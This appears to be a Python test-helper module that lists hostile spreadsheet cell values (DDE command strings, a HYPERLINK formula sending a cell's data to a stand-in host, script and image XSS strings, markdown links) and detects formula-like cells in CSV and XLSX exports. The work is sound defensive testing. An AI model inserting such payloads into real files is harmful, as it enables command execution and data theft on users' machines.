"""Hostile names for the security tests, and checks that do not reuse pipelines.safe_cells: what
a spreadsheet would read as a formula, read independently from the OWASP list."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl

# One name per kind of attack: formulas (OWASP's examples and their variants), HTML for the
# tooltips, markdown for the captions. Each stands for a posyandu, puskesmas or area name.
HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
DDE = "+cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
HOSTILE = (
    HYPERLINK,
    DDE,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1dHYPERLINK(\"http://x.invalid\")",  # full-width equals sign
    SCRIPT,
    '<img src=x onerror="alert(1)">',
    "[klik](http://x.invalid) ![x](http://x.invalid/t.png)",
    'Mawar; "Melati", 1',
)

_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*( ?(%|[A-Za-z]+))?")


def formula_like(cell: object) -> bool:
    """True for a text cell a spreadsheet could run: it starts with a tab or carriage return, or
    (after white space) with = + - @ or their full-width forms, and is not just a number."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r":
        return True
    stripped = re.sub(r"^[\s\ufeff]+", "", cell)
    return bool(stripped) and stripped[0] in _TRIGGERS and not _PLAIN_NUMBER.fullmatch(cell)


def csv_cells(data: bytes | str, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def xlsx_problems(source: Path | bytes) -> list[str]:
    """Every formula cell, hyperlink and formula-like text cell of every sheet."""
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    problems = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or formula_like(cell.value) or cell.hyperlink:
                    problems.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return problems


def xlsx_values(source: Path | bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
